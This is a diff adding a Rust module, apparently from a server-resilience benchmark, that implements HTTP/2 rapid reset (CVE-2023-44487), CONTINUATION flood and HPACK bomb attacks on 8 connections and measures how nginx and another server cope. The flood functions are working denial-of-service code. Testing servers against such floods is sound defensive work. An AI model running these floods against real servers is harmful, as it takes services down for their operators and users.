@@ -1,0 +1,134 @@
+//! `hostile/frame-floods`: rapid reset, CONTINUATION without end, and small blocks that decode to large ones.
+
+use std::error::Error;
+use std::io;
+
+use super::{NGINX, SOFTCLOCK};
+use crate::hostile::frames::{
+    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, MAX_WINDOW, RST_STREAM, field, frame,
+    get_block, opening, request,
+};
+use crate::hostile::link::{Link, again_and_again};
+use crate::hostile::subject::Subject;
+use crate::hostile::table;
+use crate::hostile::tally::Tally;
+use crate::hostile::trial::{Case, Ground};
+use crate::report::{Context, Experiment, Report};
+
+/// The experiment.
+pub const EXPERIMENT: Experiment = Experiment {
+    name: "hostile/frame-floods",
+    about: "HTTP/2 rapid reset, CONTINUATION flood and HPACK bombs on 8 connections",
+    run,
+};
+
+type Flood = fn(&mut Link<'_>, &Tally) -> io::Result<()>;
+
+fn run(context: &Context) -> Result<Report, Box<dyn Error>> {
+    let nginx_limited = Subject {
+        name: "nginx, limit_req",
+        settings: "limit_req_zone $binary_remote_addr zone=r:1m rate=1000r/s; limit_req zone=r burst=200 nodelay;",
+        ..NGINX
+    };
+    let floods: [(&str, &str, Flood, Vec<Subject>); 3] = [
+        (
+            "rapid reset",
+            "requests",
+            rapid_reset,
+            vec![SOFTCLOCK, NGINX, nginx_limited],
+        ),
+        (
+            "CONTINUATION flood",
+            "frames",
+            continuation,
+            vec![SOFTCLOCK, NGINX],
+        ),
+        (
+            "HPACK bombs",
+            "requests",
+            hpack_bomb,
+            vec![SOFTCLOCK, NGINX],
+        ),
+    ];
+    let cases = floods.map(|(name, units, flood, subjects)| Case {
+        name: format!("{name} on 8 connections"),
+        attack: Box::new(move |against| {
+            again_and_again(against, |link| flood(link, against.tally));
+        }),
+        threads: 8,
+        units,
+        subjects,
+        ground: Ground::Files,
+    });
+    let title = "floods of HTTP/2 requests that are taken back or never end";
+    table::report(context, title, cases.into(), &NOTES)
+}
+
+/// Requests that are cancelled at once (CVE-2023-44487).
+fn rapid_reset(link: &mut Link<'_>, tally: &Tally) -> io::Result<()> {
+    link.send(&opening(MAX_WINDOW))?;
+    let block = get_block("/small.html", []);
+    let mut stream = 1;
+    while tally.goes_on() && stream < MAX_WINDOW - 2 * BATCH {
+        let mut batch = Vec::new();
+        for _ in 0..BATCH {
+            batch.extend(request(stream, &block));
+            batch.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
+            stream += 2;
+        }
+        link.send(&batch)?;
+        tally.units.add(BATCH as usize);
+    }
+    Ok(())
+}
+
+/// A request whose fields never end (CVE-2024-24549 and others).
+fn continuation(link: &mut Link<'_>, tally: &Tally) -> io::Result<()> {
+    link.send(&opening(MAX_WINDOW))?;
+    let block = get_block("/small.html", []);
+    link.send(&frame(HEADERS, END_STREAM, 1, &block))?;
+    let mut fields = Vec::new();
+    for number in 0..50 {
+        field(&mut fields, 0x00, &format!("x{number:04}"), "1");
+    }
+    let more = frame(CONTINUATION, 0, 1, &fields);
+    while tally.goes_on() {
+        link.send(&more)?;
+        tally.units.add(1);
+    }
+    Ok(())
+}
+
+/// Requests that refer to a field of 4 KB in the dynamic table 8000 times, a byte each.
+fn hpack_bomb(link: &mut Link<'_>, tally: &Tally) -> io::Result<()> {
+    link.send(&opening(MAX_WINDOW))?;
+    let mut first = get_block("/small.html", []);
+    // With its name and the 32 bytes that count for each entry it just fits.
+    field(&mut first, 0x40, "bomb", &"a".repeat(4096 - 4 - 32));
+    link.send(&request(1, &first))?;
+    let mut bomb = get_block("/small.html", []);
+    bomb.extend([FIRST_DYNAMIC; 8000]);
+    let mut stream = 3;
+    while tally.goes_on() {
+        link.send(&frame(HEADERS, END_STREAM | END_HEADERS, stream, &bomb))?;
+        tally.units.add(1);
+        stream += 2;
+    }
+    Ok(())
+}
+
+/// The error code of streams that are not wanted any more.
+const CANCEL: u32 = 0x8;
+
+/// The first entry behind the static table, as an indexed field.
+const FIRST_DYNAMIC: u8 = 0x80 | 62;
+
+/// Requests that are sent at once.
+const BATCH: u32 = 100;
+
+const NOTES: [&str; 2] = [
+    "nginx's limits here are on by default: keepalive_requests 1000, http2_max_concurrent_streams 128, \
+     large_client_header_buffers 4 8k",
+    "an attacker whose connection is ended makes another after 100 ms, with a handshake of TLS 1.3, which is what is left of \
+     the attack then",
+];
